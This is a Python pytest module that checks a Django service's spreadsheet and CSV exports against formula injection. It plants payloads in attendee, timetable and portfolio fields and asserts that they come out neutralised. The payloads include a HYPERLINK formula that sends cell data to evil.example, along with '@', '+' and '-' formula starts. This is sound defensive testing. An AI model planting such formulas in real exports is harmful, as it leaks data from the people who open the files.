"""Issue 15, finding 1: no spreadsheet or CSV file the service hands out holds a formula.

Every export is listed in EXPORTS. Each test plants formulas in every free-text field that reaches
the file, builds the file through the real page or command, opens it the way a spreadsheet
would, and checks that no cell is a formula and every planted text is there, with an apostrophe
in front. `test_every_writer_goes_through_the_shared_module` reads the source, so a new export
written some other way fails here, naming its file.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import Client, TestCase
from django.urls import reverse
from openpyxl import load_workbook

from peerdiag.diagnostics.enums import Stage
from peerdiag.diagnostics.models import Diagnostic
from peerdiag.directory.models import Organisation, Person
from peerdiag.timetable.domain.versions import publish
from peerdiag.timetable.models import Attendee, Session
from tests.timetable.helpers import generate, planned_week

pytestmark = pytest.mark.django_db

SRC = Path(__file__).resolve().parent.parent / "src" / "peerdiag"
PLANTED = [
    '=HYPERLINK("http://evil.example/?"&B2,"Click me")',
    "@SUM(1)",
    "+1",
    "-1+1",
]

# Every spreadsheet or CSV file the service hands out, how it is made, and the test planting
# formulas in it.
EXPORTS = {
    "attendees spreadsheet (xlsx)": (
        "page web:availability_template?format=xlsx",
        "test_attendees_xlsx_holds_no_formula",
    ),
    "attendees spreadsheet (CSV)": (
        "page web:availability_template?format=csv",
        "test_attendees_csv_holds_no_formula",
    ),
    "timetable (xlsx)": (
        "command peerdiag timetable export --format xlsx",
        "test_timetable_xlsx_holds_no_formula",
    ),
    "timetable (xlsx), downloaded": (
        "page web:timetable_download_xlsx",
        "test_timetable_xlsx_download_holds_no_formula",
    ),
    "portfolio (CSV), streamed": (
        "page web:portfolio_export",
        "test_portfolio_csv_holds_no_formula",
    ),
    "portfolio (CSV), built in the background": (
        "page web:portfolio_export_start, then web:portfolio_export_file",
        "test_portfolio_csv_built_in_the_background_holds_no_formula",
    ),
}
# Source files that mention a spreadsheet or CSV content type, and why.
KNOWN = {
    "common/spreadsheets.py": "the shared writer",
    "web/views/attendees.py": "serves the attendees spreadsheet",
    "web/views/portfolio.py": "serves the portfolio CSV",
    "web/views/schedule.py": "serves the published timetable spreadsheet",
    "reports/domain/exports.py": "names the content type of stored files",
    "documents/domain/uploads.py": "accepts uploads; writes nothing",
}
# Only the shared module may write a CSV file or a workbook.
WRITERS = re.compile(r"csv\.writer|DictWriter|\.writerows?\(|\bWorkbook\b|xlsxwriter")
SERVES = re.compile(r"text/csv|spreadsheetml\.sheet")
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def _python_files() -> Iterator[tuple[str, str]]:
    for path in sorted(SRC.rglob("*.py")):
        yield path.relative_to(SRC).as_posix(), path.read_text(encoding="utf-8")


def test_every_writer_goes_through_the_shared_module():
    writers = [name for name, text in _python_files() if WRITERS.search(text)]
    assert writers == ["common/spreadsheets.py"], (
        "Write spreadsheets and CSV files with peerdiag.common.spreadsheets, not directly in: "
        + ", ".join(w for w in writers if w != "common/spreadsheets.py")
    )
    serving = {name for name, text in _python_files() if SERVES.search(text)}
    unknown = sorted(serving - set(KNOWN))
    assert not unknown, (
        f"{', '.join(unknown)} hands out a spreadsheet or CSV file: write it with "
        "peerdiag.common.spreadsheets and add it to EXPORTS and KNOWN in this test"
    )
    assert set(KNOWN) - serving == {"common/spreadsheets.py"}, "KNOWN lists a file that is gone"


def test_every_export_listed_has_a_test():
    missing = [name for name, (_, test) in EXPORTS.items() if not callable(globals().get(test))]
    assert not missing, f"no test plants formulas in: {', '.join(missing)}"


def _is_formula_like(value: str) -> bool:
    # Checked here independently of the writer: what Excel, LibreOffice or Sheets could run.
    # A CSV cell that is just a number (-5) is read as that number, which runs nothing.
    if NUMBER.fullmatch(value):
        return False
    return value.lstrip(" \u00a0\u3000")[:1] in set("=+-@\t\r\n＝＋－＠")


def _check_cells(cells: list[tuple[str, object, str]], planted: list[str]) -> None:
    """cells: (where, value, data type); every planted text must be in one of them, neutralised."""
    formulas = [where for where, _, kind in cells if kind == "f"]
    assert not formulas, f"formula cells at {formulas}"
    live = [(w, v) for w, v, _ in cells if isinstance(v, str) and _is_formula_like(v)]
    assert not live, f"cells a spreadsheet could run: {live}"
    texts = [v for _, v, _ in cells if isinstance(v, str)]
    for text in planted:
        assert any(t == "'" + text or t.startswith("'" + text + ",") for t in texts), text


def _xlsx_cells(data: bytes) -> list[tuple[str, object, str]]:
    book = load_workbook(io.BytesIO(data))  # not data_only: a formula would show as one
    return [
        (f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


def _csv_cells(data: bytes) -> list[tuple[str, object, str]]:
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [
        (f"row {r} column {c}", v, "s")
        for r, row in enumerate(rows, 1)
        for c, v in enumerate(row, 1)
    ]


def _client(user) -> Client:  # type: ignore[no-untyped-def]
    c = Client()
    c.force_login(user)
    return c


# The attendees spreadsheet: the issue's own attack, through the organiser's page.

ATTENDEES = [
    {
        "name": PLANTED[0],
        "job_title": PLANTED[1],
        "group": PLANTED[2],
        "email": "-1+1@evil.example",
    },
    {"name": PLANTED[3], "job_title": PLANTED[0], "group": PLANTED[1], "email": "=1@evil.example"},
    {"name": "+44 Ann", "job_title": "-", "group": "@Police", "email": ""},
]


@pytest.fixture
def attendees(world):  # type: ignore[no-untyped-def]
    organiser = _client(world.organiser)
    for fields in ATTENDEES:
        r = organiser.post(reverse("web:attendee_add", args=[world.own.reference]), fields)
        assert r.status_code == 302, r.text
    stored = Attendee.objects.filter(diagnostic=world.own)
    assert sorted(a.name for a in stored) == sorted(f["name"] for f in ATTENDEES)
    return [v for f in ATTENDEES for v in f.values() if v]


def _attendees_file(world, fmt: str) -> bytes:  # type: ignore[no-untyped-def]
    url = reverse("web:availability_template", args=[world.own.reference])
    response = _client(world.pcm).get(url, {"format": fmt})
    assert response["Content-Disposition"].endswith(f'attendees.{fmt}"')
    return response.content


def test_attendees_xlsx_holds_no_formula(world, attendees):
    _check_cells(_xlsx_cells(_attendees_file(world, "xlsx")), attendees)


def test_attendees_csv_holds_no_formula(world, attendees):
    _check_cells(_csv_cells(_attendees_file(world, "csv")), attendees)


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_attendees_spreadsheet_comes_back_unchanged(world, attendees, fmt):
    """Filled in and sent back, the file updates the same people and keeps their text as it was."""
    before = sorted(Attendee.objects.filter(diagnostic=world.own).values_list("pk", "name"))
    upload = SimpleUploadedFile(f"back.{fmt}", _attendees_file(world, fmt))
    url = reverse("web:availability_import", args=[world.own.reference])
    r = _client(world.organiser).post(url, {"file": upload}, follow=True)
    assert "Spreadsheet imported: 0 added, 3 updated" in r.text
    people = Attendee.objects.filter(diagnostic=world.own)
    assert sorted(people.values_list("pk", "name")) == before
    got = {(a.name, a.job_title, a.group, a.email) for a in people}
    assert got == {(f["name"], f["job_title"], f["group"], f["email"]) for f in ATTENDEES}


# The timetable from the command line: session titles and groups, attendees, peers, links.


def test_timetable_xlsx_holds_no_formula(world, tmp_path):
    w = planned_week(world.own, interviews=4)
    planted: list[str] = []
    for i, (s, a) in enumerate(zip(w.interviews, w.attendees, strict=True)):
        title, group, name, link = (PLANTED[(i + k) % 4] for k in range(4))
        Session.objects.filter(pk=s.pk).update(title=title, group=group, platform_link=link)
        Attendee.objects.filter(pk=a.pk).update(name=name, group=group)
        planted += [title, group, name, link]
    for k, member in enumerate(world.own.team.all()):
        Person.objects.filter(pk=member.person_id).update(full_name=PLANTED[k % 4])
    generate(w.d, world.pcm)
    publish(w.d, by=world.pcm)
    target = tmp_path / "week.xlsx"
    call_command("timetable", "export", w.d.reference, "--format", "xlsx", "-o", str(target))
    cells = _xlsx_cells(target.read_bytes())
    _check_cells(cells, planted)
    # The Peers column: the first peer of at least one session has a planted name.
    peers = [v for where, v, _ in cells if re.search(r"!H([2-9]|\d\d)$", where)]
    assert any(isinstance(v, str) and v[:2] in {"'" + p[0] for p in PLANTED} for v in peers)


def test_timetable_xlsx_download_holds_no_formula(world, client):
    w = planned_week(world.own, interviews=4)
    planted: list[str] = []
    for i, (s, a) in enumerate(zip(w.interviews, w.attendees, strict=True)):
        title, group, name, link = (PLANTED[(i + k) % 4] for k in range(4))
        Session.objects.filter(pk=s.pk).update(title=title, group=group, platform_link=link)
        Attendee.objects.filter(pk=a.pk).update(name=name, group=group)
        planted += [title, group, name, link]
    generate(w.d, world.pcm)
    publish(w.d, by=world.pcm)
    client.force_login(world.sponsor)
    response = client.get(reverse("web:timetable_download_xlsx", args=[w.d.reference]))
    cells = _xlsx_cells(response.content)
    _check_cells(cells, planted)
    # The planted link is not a web address: it is text, never a clickable hyperlink.
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(response.content))["Timetable"]
    assert all(c.hyperlink is None for c in sheet["J"] if c.value and "HYPERLINK" in str(c.value))


# The portfolio, streamed and built in the background: titles, councils, PCMs.


@pytest.fixture
def portfolio(world):  # type: ignore[no-untyped-def]
    # Drafting, with delivery long past: the written feedback is overdue, a negative number.
    Diagnostic.objects.filter(pk=world.own.pk).update(
        title=PLANTED[0], stage=Stage.DRAFTING, day1=date(2020, 1, 6)
    )
    Diagnostic.objects.filter(pk=world.other.pk).update(title=PLANTED[1])
    Organisation.objects.filter(pk=world.own.host_council_id).update(name=PLANTED[2])
    Person.objects.filter(pk=world.pcm.person.pk).update(full_name=PLANTED[3])
    Person.objects.filter(pk=world.other_pcm.person.pk).update(full_name=PLANTED[0])
    return list(PLANTED)


def _streamed(response: Any) -> bytes:
    return b"".join(response.streaming_content)


def test_portfolio_csv_holds_no_formula(world, portfolio):
    response = _client(world.admin).get(reverse("web:portfolio_export"))
    data = _streamed(response)
    _check_cells(_csv_cells(data), portfolio)
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    own = next(r for r in rows if r["Reference"] == world.own.reference)
    assert int(own["Days left to written feedback"]) < 0  # a number, so no apostrophe


def test_portfolio_csv_built_in_the_background_holds_no_formula(world, portfolio):
    from peerdiag.reports.models import ExportJob

    c = _client(world.admin)
    with TestCase.captureOnCommitCallbacks(execute=True):
        c.post(reverse("web:portfolio_export_start"))
    job = ExportJob.objects.get(kind="portfolio_csv")
    response = c.get(reverse("web:portfolio_export_file", args=[job.code]))
    assert job.state == "done", job.message
    _check_cells(_csv_cells(_streamed(response)), portfolio)
